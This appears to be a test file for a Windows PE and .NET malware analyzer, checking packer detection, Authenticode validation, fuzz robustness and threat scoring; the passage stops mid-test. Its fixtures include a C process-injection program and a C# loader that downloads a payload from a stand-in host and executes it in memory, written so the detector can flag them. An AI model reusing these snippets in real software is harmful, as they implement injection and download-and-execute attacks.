import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { AnalysisPipeline } from '../pipeline';
import { PeFile } from '../formats/pe/pe-file';
import { missing, PeWorkshop } from '../formats/pe/testing/toolchain';
import { SIGNAL_BY_ID } from '../signals/catalogue';
import { MITRE_BY_ID } from '../signals/mitre';
import { scoreFile } from '../signals/scoring';
import { testEngineOptions } from '../testing/engine-options';
import { fileContext } from '../testing/file-context';
import { buildZip, minimalPe, seededBytes } from '../testing/samples';
import { AnalyzerResult, Verdict } from '../types';
import { defaultAnalyzers } from './index';
import { PeAnalyzer } from './pe.analyzer';

/**
 * PE files are built at test time (mingw-w64, dlltool, windres, osslsigncode, openssl) or taken from
 * Debian's clamav-testfiles; reference values come from python3-pefile and yara. Nothing binary is
 * committed. Without a tool, the tests that need it are skipped with a message naming it.
 */
const analyzer = new PeAnalyzer();
const pipeline = new AnalysisPipeline(defaultAnalyzers());
const analyze = (data: Uint8Array, name = 'sample.exe') => analyzer.analyze(fileContext(data, name));
// eslint-disable-next-line @typescript-eslint/no-explicit-any
const pe = (r: AnalyzerResult) => r.facts!.pe as any;
const ids = (r: AnalyzerResult) => (r.signals ?? []).map((s) => s.id);

const CLAMAV = '/usr/share/clamav-testfiles';
const clam = (name: string) => new Uint8Array(readFileSync(`${CLAMAV}/${name}`));
const haveClamav = existsSync(`${CLAMAV}/clam-upx.exe`);
const refTools = missing('python', 'yara');
const buildTools = missing('gcc', 'dlltool', 'windres', 'osslsigncode', 'openssl');
if (!haveClamav) console.warn('pe.analyzer.spec: clamav-testfiles is not installed (Debian package clamav-testfiles): the tests on packed PEs are skipped');
if (refTools.length) console.warn(`pe.analyzer.spec: ${refTools.join(', ')} missing (Debian packages python3-pefile, yara): the reference-value tests are skipped`);
if (buildTools.length) console.warn(`pe.analyzer.spec: ${buildTools.join(', ')} missing (Debian packages gcc-mingw-w64-x86-64, osslsigncode, openssl): the tests on built PEs are skipped`);
const withClamav = haveClamav ? describe : describe.skip;
const withClamavRefs = haveClamav && !refTools.length ? describe : describe.skip;
const withBuilds = buildTools.length ? describe.skip : describe;
const withBuildRefs = buildTools.length || refTools.length ? describe.skip : describe;
const haveMcs = !missing('mcs').length;
if (!haveMcs) console.warn('pe.analyzer.spec: mcs missing (Debian package mono-mcs): the tests on .NET assemblies are skipped');
const withMcs = haveMcs ? describe : describe.skip;

const HELLO = '#include <stdio.h>\nint main(void) { puts("hello, world"); return 0; }\n';
const ORDINARY = `#include <windows.h>
#include <stdio.h>
int main(int argc, char **argv) {
  HANDLE f = CreateFileA(argc > 1 ? argv[1] : "notes.txt", GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
  char buf[256]; DWORD got = 0;
  if (f != INVALID_HANDLE_VALUE) { ReadFile(f, buf, sizeof buf, &got, NULL); CloseHandle(f); }
  HKEY key; char value[256]; DWORD size = sizeof value;
  if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\\\Example Corp\\\\Notes", 0, KEY_READ, &key) == ERROR_SUCCESS) {
    RegQueryValueExA(key, "LastFile", NULL, NULL, (BYTE *)value, &size);
    RegCloseKey(key);
  }
  void *scratch = VirtualAlloc(NULL, 4096, MEM_COMMIT, PAGE_READWRITE);
  if (scratch) VirtualFree(scratch, 0, MEM_RELEASE);
  if (argc > 2) {
    STARTUPINFOA si = { sizeof si }; PROCESS_INFORMATION pi;
    if (CreateProcessA(NULL, argv[2], NULL, NULL, FALSE, 0, NULL, NULL, &si, &pi)) { WaitForSingleObject(pi.hProcess, INFINITE); CloseHandle(pi.hProcess); CloseHandle(pi.hThread); }
  }
  printf("read %lu bytes\\n", got);
  return 0;
}
`;
/** Never run: the calls exist so that the imports do. */
const INJECTOR = `#include <windows.h>
int main(int argc, char **argv) {
  if (argc < 4) return 1;
  HANDLE p = OpenProcess(PROCESS_ALL_ACCESS, FALSE, (DWORD)atoi(argv[1]));
  void *remote = VirtualAllocEx(p, NULL, 4096, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
  SIZE_T written = 0;
  WriteProcessMemory(p, remote, argv[2], 16, &written);
  HANDLE t = CreateRemoteThread(p, NULL, 0, (LPTHREAD_START_ROUTINE)remote, NULL, 0, NULL);
  return t != NULL;
}
`;

withClamav('PeAnalyzer on clamav-testfiles', () => {
  it('clam-upx.exe: UPX by section names, stub and marker, reported as informational', async () => {
    const result = await analyze(clam('clam-upx.exe'));
    expect(ids(result)).toContain('pe.packed.upx');
    const upx = result.signals!.find((s) => s.id === 'pe.packed.upx')!;
    expect(upx.evidence[0]).toMatch(/UPX: section UPX0; section UPX1; entry point code matches the UPX stub/);
    expect(pe(result).packers.map((p: { id: string }) => p.id)).toEqual(['upx']);
    expect(pe(result).sections.map((s: { name: string; flags: string }) => `${s.name} ${s.flags}`)).toEqual(['UPX0 RWX', 'UPX1 RWX', '.rsrc RW-']);
    // The writable+executable sections and the two-function import table are UPX's, not the program's.
    expect(result.signals!.find((s) => s.id === 'pe.section_wx')!.verdict).toBe(Verdict.Informational);
    expect(ids(result)).not.toContain('pe.dynamic_api_resolution');
    expect(scoreFile(result.signals!, result.issues!, true).verdict).toBe(Verdict.Informational);
    expect(result.tags).toEqual(expect.arrayContaining(['pe', 'upx', 'packed']));
  });

  it.each([
    ['clam-aspack.exe', 'aspack'],
    ['clam-mew.exe', 'mew'],
    ['clam-petite.exe', 'petite'],
    ['clam-upack.exe', 'upack'],
    ['clam-pespin.exe', 'pespin'],
    ['clam-wwpack.exe', 'wwpack'],
    ['clam-yc.exe', 'yc'],
  ])('%s: packer %s', async (file, packer) => {
    const result = await analyze(clam(file));
    expect(pe(result).packers.map((p: { id: string }) => p.id)).toContain(packer);
    expect(ids(result)).toContain(`pe.packed.${packer}`);
    expect(SIGNAL_BY_ID.get(`pe.packed.${packer}`)!.mitre).toContain('T1027.002');
  });

  it('clam-fsg.exe: the clam.exe it carries in a section is extracted as an embedded PE', async () => {
    const result = await analyze(clam('clam-fsg.exe'));
    const child = result.children!.find((c) => c.relation === 'pe-embedded')!;
    expect(child.name).toBe('embedded-0x17e0.exe');
    expect(createHash('sha256').update(child.data).digest('hex')).toBe(createHash('sha256').update(clam('clam.exe')).digest('hex'));
    expect(result.signals!.find((s) => s.id === 'pe.embedded_executable')!.evidence).toEqual(['PE image at 0x17e0 in section .clamav (544 bytes)']);
  });

  it('clam.ea06.exe: an AutoIt script in the overlay, the Rich header decoded and valid', async () => {
    const result = await analyze(clam('clam.ea06.exe'));
    const facts = pe(result);
    expect(facts.installer).toBe('AutoIt');
    expect(facts.overlay).toMatchObject({ offset: 252928, size: 5032, installer: 'AutoIt' });
    expect(facts.versionInfo.strings.CompiledScript).toBe('AutoIt v3 Script : 3, 2, 8, 1');
    expect(facts.richHeader).toMatchObject({ offset: 0x80, checksumValid: true, valid: true });
    expect(facts.richHeader.entries).toContainEqual({ productId: 0x6e, product: 'Utc1400_CPP', build: 50727, count: 53 });
    expect(facts.compileTime).toBe('2007-09-10T14:57:50.000Z');
    expect(facts.entryPoint).toEqual({ rva: '0x99190', section: 'UPX1', offset: 222608 });
    expect(facts.imports.find((l: { dll: string }) => l.dll === 'WSOCK32.dll').functions).toEqual(['#19']);
  });

  it('InstallShield setup launchers: installer API use is informational, nothing suspicious', async () => {
    const result = await analyze(clam('clam_ISmsi_ext.exe'));
    expect(pe(result).installer).toBe('InstallShield');
    for (const s of result.signals!) expect(s.verdict).toBe(Verdict.Informational);
    expect(pe(result).capabilities.map((c: { signal: string }) => c.signal)).toEqual(['pe.persistence.run_key', 'pe.download_execute']);
  });

  it('a forged Rich header (one DOS stub byte changed) no longer matches its checksum', async () => {
    const data = clam('clam-fsg.exe').slice();
    data[0x4e] ^= 0x20; // "This program" -> "this program"
    const result = await analyze(data);
    expect(pe(result).richHeader.checksumValid).toBe(false);
    expect(result.signals!.find((s) => s.id === 'pe.rich_header_forged')!.evidence[0]).toMatch(/^checksum 0x[0-9a-f]{8} computed from the DOS header and the entries does not match the key 0x[0-9a-f]{8}$/);
  });
});

withClamavRefs('imphash and checksum against pefile and YARA (clamav-testfiles)', () => {
  const workshop = new PeWorkshop();
  afterAll(() => workshop.dispose());
  const files = ['clam.exe', 'clam-aspack.exe', 'clam-fsg.exe', 'clam-mew.exe', 'clam-nsis.exe', 'clam-pespin.exe', 'clam-petite.exe', 'clam-upx.exe', 'clam-wwpack.exe', 'clam-yc.exe', 'clam.ea05.exe', 'clam.ea06.exe', 'clam_ISmsi_ext.exe', 'clam_IScab_ext.exe'];

  it.each(files)('%s', async (file) => {
    const path = `${CLAMAV}/${file}`;
    const reference = workshop.pefile(path);
    const data = clam(file);
    const before = createHash('sha256').update(data).digest('hex');
    const result = await analyze(data);
    // Parsing never writes into the sample's bytes.
    expect(createHash('sha256').update(data).digest('hex')).toBe(before);
    expect(pe(result).imphash).toBe(reference.imphash);
    expect(workshop.yaraImphashIs(path, pe(result).imphash)).toBe(true);
    expect(new PeFile(clam(file)).computeChecksum()).toBe(reference.checksum);
  });

  it('clam-upack.exe: imports in the header, read as YARA (and the loader) reads them; pefile finds none', async () => {
    const path = `${CLAMAV}/clam-upack.exe`;
    const result = await analyze(clam('clam-upack.exe'));
    expect(pe(result).imports).toEqual([{ dll: 'KERNEL32.DLL', count: 2, functions: ['LoadLibraryA', 'GetProcAddress'] }]);
    expect(workshop.yaraImphashIs(path, pe(result).imphash)).toBe(true);
    expect(workshop.pefile(path).imphash).toBe('');
  });
});

withBuilds('PeAnalyzer on PEs built with mingw-w64', () => {
  const w = new PeWorkshop();
  let hello: Uint8Array;
  let ordinary: Uint8Array;
  let injector: Uint8Array;
  beforeAll(() => {
    hello = w.compile('hello.exe', HELLO);
    ordinary = w.compile('ordinary.exe', ORDINARY, ['-ladvapi32']);
    injector = w.compile('injector.exe', INJECTOR);
  }, 60_000);
  afterAll(() => w.dispose());

  it('hello world: headers, sections, imports, TLS callbacks of the CRT, no signal', async () => {
    const result = await analyze(hello, 'hello.exe');
    const facts = pe(result);
    expect(facts).toMatchObject({ format: 'PE32+', machine: 'x86-64', subsystem: 'windows-console', isDll: false, imageBase: '0x140000000' });
    expect(facts.entryPoint.section).toBe('.text');
    expect(facts.sections.find((s: { name: string }) => s.name === '.text')).toMatchObject({ flags: 'R-X' });
    expect(facts.imports.map((l: { dll: string }) => l.dll)).toEqual(['KERNEL32.dll', 'msvcrt.dll']);
    expect(facts.tls.callbacks.length).toBeGreaterThan(0);
    expect(facts.tls.callbacks.every((c: { section: string; executable: boolean }) => c.section === '.text' && c.executable)).toBe(true);
    expect(Date.parse(facts.compileTime)).toBeLessThanOrEqual(Date.now() + 60_000);
    expect(facts.checksum.valid).toBe(true);
    expect(facts.signature).toEqual({ signed: false, signatures: [] });
    expect(result.signals).toEqual([]);
    expect(result.issues).toEqual([]);
  });

  it('hello world and a program using ordinary APIs come out NO_THREAT through the whole pipeline', async () => {
    for (const [name, data] of [['hello.exe', hello], ['notes.exe', ordinary]] as const) {
      const result = await pipeline.analyze({ name, data }, testEngineOptions());
      expect({ name, verdict: result.verdict.verdict, signals: result.files[0].signals }).toEqual({ name, verdict: Verdict.NoThreat, signals: [] });
      expect(result.files[0].analyzers).toContain('pe');
    }
    const facts = pe({ facts: (await analyze(ordinary)).facts });
    const imported = facts.imports.flatMap((l: { functions: string[] }) => l.functions);
    expect(imported).toEqual(expect.arrayContaining(['CreateFileA', 'CreateProcessA', 'RegOpenKeyExA', 'VirtualAlloc']));
    expect(facts.capabilities).toEqual([]);
  });

  it('the injection trio is at least SUSPICIOUS, through a pe.* signal mapped to T1055', async () => {
    const result = await pipeline.analyze({ name: 'injector.exe', data: injector }, testEngineOptions());
    expect([Verdict.Suspicious, Verdict.LikelyMalicious, Verdict.Malicious]).toContain(result.verdict.verdict);
    const hit = result.files[0].signals.find((s) => s.id === 'pe.injection.remote_thread')!;
    expect(hit.evidence).toEqual(['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread']);
    expect(SIGNAL_BY_ID.get(hit.id)!.mitre).toContain('T1055');
    expect(MITRE_BY_ID.get('T1055')!.name).toBe('Process Injection');
  });

  it('a DLL: exports with names, ordinals and addresses', async () => {
    const dll = w.compile('sandbox.dll', '__declspec(dllexport) int sandbox_add(int a, int b) { return a + b; }\n__declspec(dllexport) int sandbox_mul(int a, int b) { return a * b; }\n', ['-shared']);
    const result = await analyze(dll, 'sandbox.dll');
    const facts = pe(result);
    expect(facts.isDll).toBe(true);
    expect(facts.characteristics).toContain('DLL');
    expect(facts.exports.dllName).toBe('sandbox.dll');
    expect(facts.exports.functions.map((f: { name: string; ordinal: number }) => `${f.ordinal}:${f.name}`)).toEqual(['1:sandbox_add', '2:sandbox_mul']);
    expect(result.tags).toContain('dll');
  });

  it('version information, resource languages, payloads in resources and a self-referencing resource directory', async () => {
    w.write('payload.zip', buildZip([{ name: 'readme.txt', data: 'inside the resource' }]));
    w.write('blob.bin', seededBytes(80 * 1024, 7));
    const rc = `#include <winver.h>
1 VERSIONINFO
FILEVERSION 1,2,3,4
PRODUCTVERSION 1,2,0,0
FILEOS VOS_NT_WINDOWS32
FILETYPE VFT_APP
BEGIN
  BLOCK "StringFileInfo"
  BEGIN
    BLOCK "040904b0"
    BEGIN
      VALUE "CompanyName", "Example Corp"
      VALUE "FileDescription", "Resource test"
      VALUE "OriginalFilename", "restest.exe"
      VALUE "ProductName", "Sandbox Test"
    END
  END
  BLOCK "VarFileInfo"
  BEGIN
    VALUE "Translation", 0x409, 1200
  END
END
LANGUAGE 0x19, 0x01
PAYLOAD RCDATA "payload.zip"
SECRET RCDATA "blob.bin"
`;
    const obj = w.resources('res', rc);
    const data = w.compile('restest.exe', HELLO, [obj]);
    const result = await analyze(data, 'restest.exe');
    const facts = pe(result);
    expect(facts.versionInfo).toMatchObject({ fileVersion: '1.2.3.4', productVersion: '1.2.0.0', translations: ['en-US/1200'] });
    expect(facts.versionInfo.strings).toEqual({ CompanyName: 'Example Corp', FileDescription: 'Resource test', OriginalFilename: 'restest.exe', ProductName: 'Sandbox Test' });
    expect(facts.resources.types).toEqual({ RT_RCDATA: 2, RT_VERSION: 1 });
    expect(facts.resources.languages.sort()).toEqual(['en-US', 'ru-RU']);
    const payload = facts.resources.entries.find((e: { name: string }) => e.name === 'PAYLOAD');
    expect(payload).toMatchObject({ type: 'RT_RCDATA', language: 'ru-RU', contentType: 'Zip archive' });
    expect(result.children!.map((c) => `${c.relation}:${c.name}`).sort()).toEqual(['pe-resource:resource-RCDATA-PAYLOAD-1049.zip', 'pe-resource:resource-RCDATA-SECRET-1049.bin']);
    expect(result.signals).toEqual([]);

    // A resource directory entry that points back at the root directory: walked once, no loop.
    const loop = data.slice();
    const file = new PeFile(loop);
    const base = file.rvaToOffset(file.directories[2].rva);
    const view = new DataView(loop.buffer, loop.byteOffset);
    view.setUint32(base + 16 + 4, 0x80000000, true);
    const looped = await analyze(loop);
    expect(pe(looped).resources.count).toBeLessThanOrEqual(3);
  });

  it('imports by ordinal (named from the ws2_32 table or ord<N>) and delay-load imports', async () => {
    const ws2 = w.importLibrary('ws2ord', 'LIBRARY ws2_32.dll\nEXPORTS\nrecv @16 NONAME\nsend @19 NONAME\nWSAStartup @115 NONAME\n');
    const custom = w.importLibrary('custom', 'LIBRARY custom.dll\nEXPORTS\nmystery @7 NONAME\n');
    const delayed = w.importLibrary('later', 'LIBRARY later.dll\nEXPORTS\nLaterFunction\nLaterOther\n', true);
    const source = `#include <winsock2.h>
int mystery(void);
int LaterFunction(void);
int main(int argc, char **argv) {
  WSADATA d; char b[8];
  if (argc > 5) { WSAStartup(0x202, &d); send(0, b, 8, 0); recv(0, b, 8, 0); return mystery() + LaterFunction(); }
  return 0;
}
`;
    const data = w.compile('ordinals.exe', source, [ws2, custom, delayed], false);
    // GNU ld links delay-load descriptors but leaves the delay-import directory empty: point it at them, as MSVC's linker would.
    const image = new PeFile(data);
    const descriptor = w.symbol('ordinals.exe', /__DELAY_IMPORT_DESCRIPTOR_/)!;
    new DataView(data.buffer, data.byteOffset).setUint32(image.optionalOffset + 112 + 13 * 8, Number(descriptor - image.optional!.imageBase), true);
    new DataView(data.buffer, data.byteOffset).setUint32(image.optionalOffset + 112 + 13 * 8 + 4, 64, true);
    const result = await analyze(data);
    const facts = pe(result);
    expect(facts.imports.find((l: { dll: string }) => l.dll === 'ws2_32.dll').functions.sort()).toEqual(['#115', '#16', '#19']);
    expect(facts.imports.find((l: { dll: string }) => l.dll === 'custom.dll').functions).toEqual(['#7']);
    expect(facts.delayImports).toEqual([{ dll: 'later.dll', count: 1, functions: ['LaterFunction'] }]);
    if (!refTools.length) {
      const path = w.write('ordinals-copy.exe', data);
      expect(facts.imphash).toBe(w.pefile(path).imphash);
      expect(w.yaraImphashIs(path, facts.imphash)).toBe(true);
      expect(w.pefileDelayImports(path)).toEqual([['later.dll', ['LaterFunction']]]);
    }
  });

  it('FSG: the FSG 2.0 entry stub and its header marker, written over a built PE, are recognised', async () => {
    // No FSG-packed file is available (Debian's clam-fsg.exe carries an unpacked clam.exe): the stub's published bytes stand in.
    const data = hello.slice();
    const image = new PeFile(data);
    const entry = image.rvaToOffset(image.optional!.addressOfEntryPoint);
    data.set([0x87, 0x25, 0x10, 0x20, 0x40, 0x00, 0x61, 0x94, 0x55, 0xa4, 0xb6, 0x80, 0xff, 0x13], entry);
    data.set(Buffer.from('FSG!'), 0x40);
    const result = await analyze(data);
    expect(pe(result).packers).toEqual([
      { id: 'fsg', name: 'FSG', evidence: ['entry point code matches the FSG stub (87 25 ?? ?? ?? ?? 61 94...)', 'marker "FSG!" at 0x40'] },
    ]);
    expect(result.signals!.find((s) => s.id === 'pe.packed.fsg')!.verdict ?? SIGNAL_BY_ID.get('pe.packed.fsg')!.verdict).toBe(Verdict.Suspicious);
    expect(pe(await analyze(hello)).packers).toEqual([]);
  });

  it('patched headers: a future compile time, a TLS callback in a data section, a .NET CLR header', async () => {
    const data = hello.slice();
    const image = new PeFile(data);
    const view = new DataView(data.buffer, data.byteOffset);
    view.setUint32(image.peOffset + 8, Math.floor(Date.UTC(2041, 0, 1) / 1000), true);
    // The first TLS callback redirected into .data (readable and writable, not executable).
    const tls = image.rvaToOffset(image.directories[9].rva);
    const callbacks = image.rvaToOffset(image.vaToRva(view.getBigUint64(tls + 24, true)));
    const dataSection = image.sections.find((s) => s.name === '.data')!;
    view.setBigUint64(callbacks, image.optional!.imageBase + BigInt(dataSection.virtualAddress), true);
    // A CLR header and metadata root in the file alignment padding of a section.
    const host = image.sections.find((s) => s.rawSize - s.virtualSize >= 128 && !s.executable)!;
    const clrRva = host.virtualAddress + ((host.virtualSize + 7) & ~7);
    const clr = image.rvaToOffset(clrRva);
    view.setUint32(clr, 72, true);
    view.setUint16(clr + 4, 2, true);
    view.setUint16(clr + 6, 5, true);
    view.setUint32(clr + 8, clrRva + 72, true); // metadata RVA
    view.setUint32(clr + 12, 32, true);
    view.setUint32(clr + 16, 0x1, true); // ILONLY
    view.setUint32(clr + 20, 0x06000001, true);
    data.set(Buffer.from('BSJB'), clr + 72);
    view.setUint32(clr + 72 + 12, 12, true);
    data.set(Buffer.from('v4.0.30319\0\0'), clr + 72 + 16);
    view.setUint32(image.optionalOffset + 112 + 14 * 8, clrRva, true);
    view.setUint32(image.optionalOffset + 112 + 14 * 8 + 4, 72, true);

    const result = await analyze(data);
    const facts = pe(result);
    expect(facts.compileTime).toBe('2041-01-01T00:00:00.000Z');
    expect(result.signals!.find((s) => s.id === 'pe.timestamp_anomaly')!.evidence).toEqual(['compile time 2041-01-01T00:00:00.000Z is in the future']);
    expect(result.signals!.find((s) => s.id === 'pe.tls_callbacks')!.evidence).toEqual([`TLS callback 0x${(image.optional!.imageBase + BigInt(dataSection.virtualAddress)).toString(16)} in non-executable section .data`]);
    expect(facts.dotnet).toMatchObject({ clrHeaderVersion: '2.5', flags: ['ILONLY'], strongNameSigned: false, entryPointToken: '0x06000001', runtimeVersion: 'v4.0.30319' });
    // A metadata root with no streams: its version, and no tables.
    expect(facts.dotnet.metadata).toMatchObject({ version: 'v4.0.30319', streams: [], tables: {}, types: [] });
    expect(facts.anomalies).toContain('.NET metadata: no #~ stream: no tables');
    expect(result.tags).toContain('dotnet');
  });

  it('an executable or archive appended as an overlay is extracted; an appended PE is suspicious', async () => {
    const zip = buildZip([{ name: 'a.txt', data: 'appended' }]);
    const withZip = new Uint8Array([...hello, ...zip]);
    const zipped = await analyze(withZip);
    expect(pe(zipped).overlay).toMatchObject({ offset: hello.length, size: zip.length, type: 'Zip archive' });
    expect(zipped.children!.map((c) => c.relation)).toEqual(['pe-overlay']);
    expect(Buffer.from(zipped.children![0].data).equals(Buffer.from(zip))).toBe(true);
    // mingw writes a valid checksum: appending data invalidates it (informational).
    expect(ids(zipped)).toEqual(['pe.checksum_mismatch']);

    const withPe = await analyze(new Uint8Array([...hello, ...hello]));
    expect(ids(withPe).sort()).toEqual(['pe.checksum_mismatch', 'pe.overlay_executable']);
    expect(withPe.children![0]).toMatchObject({ relation: 'pe-overlay', name: `overlay-0x${hello.length.toString(16)}.exe` });
  });
});

withBuilds('Authenticode', () => {
  const w = new PeWorkshop();
  afterAll(() => w.dispose());

  it('a self-signed PE: signer and issuer as generated, authentihash equal to osslsigncode, signature valid', async () => {
    w.compile('hello.exe', HELLO);
    const signer = w.certificate('/CN=Sandbox Test Signer/O=Example Corp/C=US');
    const signed = w.sign('hello.exe', 'signed.exe', signer, 'Hello Test');
    const result = await analyze(signed);
    const facts = pe(result);
    const osslDigest = w.osslsigncodeDigest('signed.exe');
    expect(facts.authentihash).toBe(osslDigest);
    expect(facts.signature).toMatchObject({
      signed: true,
      valid: true,
      trustedForScoring: false,
      signer: 'CN=Sandbox Test Signer, O=Example Corp, C=US',
      issuer: 'CN=Sandbox Test Signer, O=Example Corp, C=US',
      digestAlgorithm: 'sha256',
    });
    const [signature] = facts.signature.signatures;
    expect(signature).toMatchObject({ digestMatches: true, messageDigestMatches: true, signatureVerified: true, selfSigned: true, programName: 'Hello Test', signedDigest: osslDigest });
    expect(signature.signer.serialNumber).toMatch(/^[0-9a-f]+$/);
    expect(Math.abs(Date.parse(signature.signingTime) - Date.now())).toBeLessThan(10 * 60_000);
    expect(ids(result)).toEqual(['pe.signature.self_signed']);
    // The unsigned file's authentihash is the same (its length is a multiple of 8, so signing added no padding).
    const unsigned = w.read('hello.exe');
    if (unsigned.length % 8 === 0) expect(pe(await analyze(unsigned)).authentihash).toBe(osslDigest);
  });

  it('a byte changed after signing: the signature no longer matches (tampered)', async () => {
    const signed = w.read('signed.exe').slice();
    const text = new PeFile(signed).sections.find((s) => s.name === '.text')!;
    signed[text.rawOffset + 0x40] ^= 0xff;
    const result = await analyze(signed);
    expect(ids(result)).toContain('pe.signature.tampered');
    expect(pe(result).signature.valid).toBe(false);
    expect(pe(result).signature.signatures[0].digestMatches).toBe(false);
    expect(result.signals!.find((s) => s.id === 'pe.signature.tampered')!.verdict).toBeUndefined(); // the catalogue's SUSPICIOUS
    expect(scoreFile(result.signals!, [], true).verdict).toBe(Verdict.Suspicious);
  });

  it('data appended after the signature is outside what it covers', async () => {
    const signed = w.read('signed.exe');
    const result = await analyze(new Uint8Array([...signed, ...Buffer.from('MZ appended after signing')]));
    expect(pe(result).signature.valid).toBe(true);
    expect(result.signals!.find((s) => s.id === 'pe.signature.unsigned_data')!.evidence).toEqual(['25 byte(s) after the certificate table']);
  });

  it('signed under a CA: the chain is listed and injection API use is lowered to informational', async () => {
    w.compile('injector.exe', INJECTOR);
    const signer = w.certificate('/CN=Example Tools Ltd/O=Example Tools/C=GB', true);
    const signed = w.sign('injector.exe', 'injector-signed.exe', signer);
    const result = await analyze(signed);
    const facts = pe(result);
    expect(facts.signature).toMatchObject({ valid: true, trustedForScoring: true, signer: 'CN=Example Tools Ltd, O=Example Tools, C=GB', issuer: 'CN=Sandbox Test Root CA, O=Example Trust' });
    expect(facts.signature.signatures[0].chain).toEqual(['CN=Example Tools Ltd, O=Example Tools, C=GB', 'CN=Sandbox Test Root CA, O=Example Trust']);
    expect(facts.authentihash).toBe(w.osslsigncodeDigest('injector-signed.exe'));
    const hit = result.signals!.find((s) => s.id === 'pe.injection.remote_thread')!;
    expect(hit).toMatchObject({ verdict: Verdict.Informational, strength: 0.35 });
    expect(hit.description).toMatch(/lowered: the file is validly signed by CN=Example Tools Ltd/);
    expect(scoreFile(result.signals!, [], true).verdict).toBe(Verdict.Informational);
  });
});

describe('PeAnalyzer on hostile input', () => {
  it('an MZ header without a PE header is an MS-DOS executable', async () => {
    const dos = new Uint8Array(256);
    dos.set([0x4d, 0x5a]);
    const result = await analyze(dos);
    expect(pe(result).format).toBe('MS-DOS executable');
  });

  it('the minimal PE header of the test samples (one empty section): nothing thrown', async () => {
    const result = await analyze(minimalPe());
    expect(pe(result)).toMatchObject({ format: 'PE32', imports: [], imphash: null });
    expect(pe(result).sections).toEqual([expect.objectContaining({ name: '', rawSize: 0, virtualSize: 0 })]);
  });

  it('truncations and random corruption never throw and stay fast', async () => {
    const base = haveClamav ? clam('clam-upx.exe') : minimalPe({ size: 4096 });
    const noise = seededBytes(4096, 42);
    const started = Date.now();
    for (let n = 0; n < 300; n++) {
      const data = base.slice(0, n < 100 ? Math.floor((base.length * n) / 100) + 2 : base.length);
      for (let k = 0; n >= 100 && k < 8; k++) data[noise[(n * 8 + k) % noise.length] * 4 % Math.min(data.length, 1024)] = noise[(n + k) % noise.length];
      data[0] = 0x4d;
      data[1] = 0x5a;
      const result = await analyzer.analyze(fileContext(data, 'fuzz.exe'));
      expect(result.facts?.pe).toBeDefined();
    }
    expect(Date.now() - started).toBeLessThan(20_000);
  });

  it('absurd counts in the headers are bounded', async () => {
    const data = minimalPe({ size: 8192 });
    const view = new DataView(data.buffer);
    view.setUint16(0x86, 0xffff, true); // NumberOfSections
    view.setUint32(0x98 + 92, 0xffffffff, true); // NumberOfRvaAndSizes
    const result = await analyze(data);
    expect(pe(result).anomalies).toEqual(expect.arrayContaining([expect.stringMatching(/^NumberOfRvaAndSizes is 4294967295/)]));
    expect(pe(result).sections.length).toBeLessThanOrEqual(1024);
  });
});

withMcs('.NET assemblies (compiled with mcs)', () => {
  const workshop = new PeWorkshop();
  let loader: Uint8Array;
  afterAll(() => workshop.dispose());

  beforeAll(() => {
    workshop.write('stage.bin', 'embedded payload bytes');
    loader = workshop.compileCs(
      'loader.exe',
      `using System; using System.Net; using System.Reflection; using System.Runtime.InteropServices;
      [assembly: AssemblyVersion("1.2.3.4")]
      namespace Loader {
        class ConfusedByAttribute : Attribute {}
        class Program {
          [DllImport("kernel32.dll")] static extern IntPtr VirtualAllocEx(IntPtr p, IntPtr a, uint s, uint t, uint pr);
          [DllImport("kernel32.dll")] static extern bool WriteProcessMemory(IntPtr p, IntPtr a, byte[] b, uint s, out UIntPtr w);
          [DllImport("kernel32.dll")] static extern IntPtr CreateRemoteThread(IntPtr p, IntPtr a, uint s, IntPtr st, IntPtr pa, uint f, IntPtr id);
          [DllImport("user32.dll", CharSet = CharSet.Auto)] static extern short GetAsyncKeyState(int key);
          static void Main() {
            byte[] bytes = new WebClient().DownloadData("http://payload.example-bad.ru/stage2.bin");
            Assembly.Load(bytes).EntryPoint.Invoke(null, null);
            Console.WriteLine("C2 at http://c2.example-bad.ru/gate.php");
          }
        }
      }`,
      ['-resource:stage.bin,Loader.stage.bin'],
    );
  });

  it('reads the metadata: assembly, references, types, P/Invoke, member references, resources and string literals', async () => {
    const dotnet = pe(await analyze(loader)).dotnet;
    expect(dotnet).toMatchObject({ runtimeVersion: 'v4.0.30319', flags: ['ILONLY'], strongNameSigned: false });
    const m = dotnet.metadata;
    expect(m.assembly).toEqual({ name: 'loader', version: '1.2.3.4', publicKey: false });
    expect(m.module).toBe('loader.exe');
    expect(m.mvid).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/);
    expect(m.assemblyReferences).toEqual([{ name: 'mscorlib', version: '4.0.0.0' }, { name: 'System', version: '4.0.0.0' }]);
    expect(m.streams.map((s: { name: string }) => s.name)).toEqual(['#~', '#Strings', '#US', '#GUID', '#Blob']);
    expect(m.types).toEqual(['Loader.ConfusedByAttribute', 'Loader.Program']);
    expect(m.tables).toMatchObject({ TypeDef: 3, ImplMap: 4, ModuleRef: 2, ManifestResource: 1, AssemblyRef: 2 });
    expect(m.pinvoke).toEqual([
      { dll: 'kernel32.dll', function: 'VirtualAllocEx' },
      { dll: 'kernel32.dll', function: 'WriteProcessMemory' },
      { dll: 'kernel32.dll', function: 'CreateRemoteThread' },
      { dll: 'user32.dll', function: 'GetAsyncKeyState' },
    ]);
    expect(m.memberReferences).toEqual(expect.arrayContaining(['System.Net.WebClient::DownloadData', 'System.Reflection.Assembly::Load', 'System.Console::WriteLine']));
    expect(m.memberReferenceCount).toBe(m.memberReferences.length);
    expect(m.loadsFromBytes).toEqual(['System.Reflection.Assembly::Load(…, byte[])']);
    expect(m.resources).toEqual(['Loader.stage.bin']);
    expect(m.userStrings).toEqual(['http://payload.example-bad.ru/stage2.bin', 'C2 at http://c2.example-bad.ru/gate.php']);
    expect(m.obfuscators).toEqual(['ConfuserEx']);
  });

  it('names nested types after their enclosing types, defined (NestedClass) and referenced (ResolutionScope)', async () => {
    workshop.compileCs('kit.dll', 'namespace Kit { public class Outer { public class Inner { public static void Go() {} } } }', ['-target:library']);
    const app = workshop.compileCs(
      'app.exe',
      'namespace App { class Program { class Stage { class Step {} } static void Main() { Kit.Outer.Inner.Go(); } } }',
      ['-r:kit.dll'],
    );
